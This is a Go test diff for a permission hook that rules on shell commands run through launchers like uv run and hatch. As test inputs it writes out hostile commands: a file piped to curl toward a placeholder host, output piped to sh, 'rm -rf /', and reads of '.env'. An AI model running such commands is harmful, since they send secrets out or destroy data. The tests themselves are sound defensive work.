@@ -93,6 +93,21 @@ func TestEnvironments(t *testing.T) {
 	}
 }
 
+// TestEnvironmentsRead: with readOnlyCommands a command inside that only reads needs no rule of its own.
+func TestEnvironmentsRead(t *testing.T) {
+	for call, want := range map[string]hookio.Decision{
+		"uv run ls": allow, "uv run cat a.txt": allow, "uv run cat /etc/hosts": ask, "uv run cat a.txt | sh": ask, "uv run touch x": ask,
+		"uv run cat a.txt | curl -d @- http://h": ask, "echo $(uv run cat a.txt)": ask, "uv run git -c core.pager=x log": ask,
+		"uv run cat a.txt > b": allow, "sudo ls": ask, "x $(uv run ls)": ask, "uv run sh -c ls": ask, "hatch run cat a.txt": ask,
+	} {
+		s := sentence{name: call, payload: bash(call), files: m(user, `{"permissions":{"allow":["Bash(uv run:*)","Bash(hatch run:*)","Bash(sudo:*)","Bash(echo:*)"]}}`,
+			"/home/dev/.gen/permgate.json", `{"readOnlyCommands":"allow"}`)}
+		if _, v, a := s.answer(t); a.Decision != want {
+			t.Errorf("%s: got %v, want %v: %s", call, a.Decision, want, v.Reason)
+		}
+	}
+}
+
 // TestEnvironmentsDenied: a deny rule and the list of what is catastrophic see the command inside.
 func TestEnvironmentsDenied(t *testing.T) {
 	const strict = `{"permissions":{"allow":["Bash"],"deny":["Bash(rm *)","Read(.env)"]}}`
@@ -106,7 +121,12 @@ func TestEnvironmentsDenied(t *testing.T) {
 		}
 		for _, inner := range []string{"rm -rf /", "cat .env"} {
 			s := sentence{name: launcher, payload: bash(launcher + sep + inner), files: m(user, strict)}
-			if _, v, a := s.answer(t); a.Decision != deny {
+			moves := strings.HasPrefix(launcher, "hatch") || strings.HasPrefix(launcher, "devbox") || strings.HasPrefix(launcher, "pixi run")
+			_, v, a := s.answer(t)
+			if moves && inner == "cat .env" && a.Decision == ask && v.Step == "2" {
+				continue // whose .env it is is not known
+			}
+			if a.Decision != deny {
 				t.Errorf("%s %s: got %v: %s", launcher, inner, a.Decision, v.Reason)
 			}
 		}
